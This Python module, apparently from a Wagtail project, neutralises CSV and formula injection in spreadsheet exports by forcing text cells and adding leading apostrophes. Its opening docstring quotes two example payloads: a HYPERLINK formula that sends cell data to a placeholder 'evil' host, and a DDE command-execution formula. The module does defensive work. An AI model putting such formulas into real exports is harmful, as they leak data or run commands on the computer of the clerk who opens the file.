"""Spreadsheet cells that cannot run: text that looks like a formula stays text.

A spreadsheet program treats a cell beginning with ``=`` (and, when it reads CSV, also
``+``, ``-``, ``@``, a tab or a carriage return) as a formula: applicant-supplied text
such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` or ``=cmd|' /C calc'!A0`` would run when
a clerk opens an export (CSV injection, OWASP). Every XLSX and CSV the project writes
puts its text through here:

- XLSX (openpyxl): a string is always written as a string cell (``data_type "s"``),
  never as a formula; only formulas the code itself builds (``formula()``) are live.
- CSV: a string beginning with one of those characters gets a leading apostrophe, the
  usual marker for "text" in spreadsheet programs; plain numbers are left alone.
"""

import re

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


class Formula(str):
    """A formula the code builds on purpose (e.g. a ``=SUM(...)`` total): written live."""


def formula(text: str) -> Formula:
    return Formula(text)


def csv_value(value):
    """``value`` made safe for a CSV cell."""
    if (
        isinstance(value, str)
        and not isinstance(value, Formula)
        and value.startswith(FORMULA_STARTS)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_row(values) -> list:
    return [csv_value(v) for v in values]


def set_cell(cell, value):
    """Write ``value`` into an openpyxl cell; a string is text even if it starts with ``=``."""
    cell.value = value
    if isinstance(value, str) and not isinstance(value, Formula) and cell.data_type == "f":
        cell.data_type = "s"
    return cell


def xlsx_row(worksheet, values) -> list:
    """A row for ``worksheet.append`` (also in write-only mode) with text kept as text."""
    row = []
    for value in values:
        if isinstance(value, str) and not isinstance(value, Formula):
            cell = WriteOnlyCell(worksheet, value)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row


class SafeCsvExportMixin:
    """For a Wagtail view with ``SpreadsheetExportMixin`` (reports, listings): its CSV
    download writes text that cannot start a formula (its XLSX download already does)."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: csv_value(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
